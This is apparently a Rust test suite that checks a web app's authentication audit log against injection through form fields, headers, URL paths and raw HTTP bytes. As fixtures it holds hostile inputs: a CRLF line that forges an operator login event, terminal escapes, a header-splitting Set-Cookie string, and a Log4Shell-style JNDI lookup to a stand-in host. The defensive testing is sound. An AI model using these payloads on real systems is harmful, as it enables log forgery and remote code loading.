//! C-28: text that tries to be more than one line, or another event.

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use super::{ANN, events};
use crate::{
    on_every_engine,
    testing::{PASSWORD, TestApp},
};

/// Texts that a log, a terminal or a reader of JSON lines could take for something else.
fn texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "a\r\n{\"action\":\"login\",\"actor\":\"operator\"}",
        "a\nb",
        "a\rb",
        "\u{1b}[2J\u{1b}[31mred",
        "a\u{2028}b\u{2029}c",
        "a\u{85}b",
        "\"}, {\"actor\": \"operator\"",
        "\\\"\\n\\u000a",
        "a\0b",
        "\u{202e}gnp.exe",
        "%0d%0aSet-Cookie: x=y",
        "${jndi:ldap://evil.example/a}",
    ]
    .map(str::to_owned)
    .into();
    texts.push("x".repeat(10 * 1024));
    texts
}

/// Every line is one event in JSON of the known words only, and the database has as many.
async fn assert_sound(app: &TestApp, lines: &[String]) {
    let kept = events(app).await;
    assert_eq!(lines.len(), kept.len());
    for (line, event) in lines.iter().zip(&kept) {
        assert!(line.len() < 400 && line.is_ascii() && !line.bytes().any(|b| b.is_ascii_control()), "{line}");
        let parsed: serde_json::Value = serde_json::from_str(line).unwrap();
        assert_eq!(parsed["action"], event.action);
        let actor = parsed["actor"].as_str().unwrap();
        assert!(actor == "anonymous" || actor == "operator" || actor.starts_with("account:"), "{line}");
    }
    let operators = kept.iter().filter(|event| event.actor == "operator").count();
    assert_eq!(operators, 1, "the one who made the account, and nobody who claims to be one");
}

on_every_engine! {
    /// Promise: `audit/one-line`
    async fn what_is_typed_into_a_field_makes_no_line(app: TestApp) {
        let mut ann = app.person(ANN).await;
        let mut visitor = app.visitor();
        for text in texts() {
            let email = format!("{text}@example.com");
            for (path, form) in [
                ("/auth/login", &[("email", text.as_str()), ("password", &text)][..]),
                ("/auth/login", &[("email", &email), ("password", &text)]),
                ("/auth/login", &[("email", ANN), ("password", &text)]),
                ("/auth/signup", &[("email", &email), ("password", &text)]),
                ("/auth/signup", &[("email", "new@example.com"), ("password", &text)]),
                ("/auth/password/forgot", &[("email", &email), ("return_to", &text)]),
                ("/auth/password/reset", &[("token", &text), ("new_password", &text)]),
                ("/auth/email/verify", &[("token", &text), ("password", &text)]),
                ("/auth/login", &[(text.as_str(), &text)]),
            ] {
                visitor.post(path, form).await;
            }
            for (path, form) in [
                ("/auth/account/profile", &[("display_name", text.as_str())][..]),
                ("/auth/email/change", &[("email", &email)]),
                ("/auth/email/confirm", &[("token", &text)]),
                ("/auth/password/change", &[("new_password", &text)]),
                ("/auth/reauthenticate", &[("password", &text)]),
            ] {
                ann.post(path, form).await;
                if !ann.is_signed_in().await {
                    panic!("{path} ended the session");
                }
            }
        }
        app.letters().await;
        assert_sound(&app, &app.audit_lines()).await;
    }

    /// Promise: `audit/one-line`
    async fn what_stands_in_a_header_or_in_the_path_makes_no_line(app: TestApp) {
        app.account(ANN).await;
        let allowed = |text: &String| axum::http::HeaderValue::from_str(text).is_ok();
        for text in texts().into_iter().filter(allowed) {
            for header in ["user-agent", "x-forwarded-for", "x-real-ip", "forwarded", "referer", "accept-language", "x-request-id"] {
                let mut visitor = app.visitor();
                visitor.set_header(header, &text);
                visitor.post("/auth/login", &[("email", ANN), ("password", PASSWORD)]).await;
            }
        }
        for text in texts() {
            let encoded: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
            let mut ann = app.logged_in(ANN).await;
            for path in ["/auth/TEXT", "/auth/login?TEXT=TEXT", "/auth/sessions/TEXT/revoke"] {
                let path = path.replace("TEXT", &encoded);
                ann.get(&path).await;
                ann.post(&path, &[]).await;
            }
            ann.delete(&format!("/auth/sessions/{encoded}")).await;
        }
        assert_sound(&app, &app.audit_lines()).await;
    }

    /// What no HTTP library would send, byte by byte.
    ///
    /// Promise: `audit/one-line`
    async fn bytes_that_are_no_header_make_no_line(app: TestApp) {
        app.account(ANN).await;
        let mut visitor = app.visitor();
        let csrf = visitor.form_token().await;
        let cookie = visitor.cookies.iter().map(|(name, value)| format!("{name}={value}")).collect::<Vec<_>>().join("; ");
        let body = format!("email=ann%40example.com&password={}&csrf_token={csrf}", PASSWORD.replace(' ', "+"));
        for agent in [&b"a\rb"[..], b"a\nX-Injected: b", b"\x1b[31mred", b"a\0b", b"\xe2\x80\xa8", b"\xff\xfe", &[b'x'; 10_240]] {
            let mut request = format!(
                "POST /auth/login HTTP/1.1\r\nhost: localhost:4400\r\norigin: {}\r\ncookie: {cookie}\r\n\
                 content-type: application/x-www-form-urlencoded\r\ncontent-length: {}\r\nconnection: close\r\nuser-agent: ",
                app.origin(), body.len(),
            ).into_bytes();
            request.extend_from_slice(agent);
            request.extend_from_slice(format!("\r\n\r\n{body}").as_bytes());
            let mut connection = TcpStream::connect(app.address).await.unwrap();
            connection.write_all(&request).await.unwrap();
            let mut answer = Vec::new();
            connection.read_to_end(&mut answer).await.unwrap();
            let answer = String::from_utf8_lossy(&answer).into_owned();
            assert!(answer.starts_with("HTTP/1.1 200 ") || answer.starts_with("HTTP/1.1 400 "), "{answer}");
        }
        assert_sound(&app, &app.audit_lines()).await;
        let devices = app.db().list("SELECT DISTINCT device FROM sessions", &[], |row| row.get::<String>(0)).await.unwrap();
        assert_eq!(devices, ["Unknown browser"], "nothing of a stranger's text is stored");
    }
}
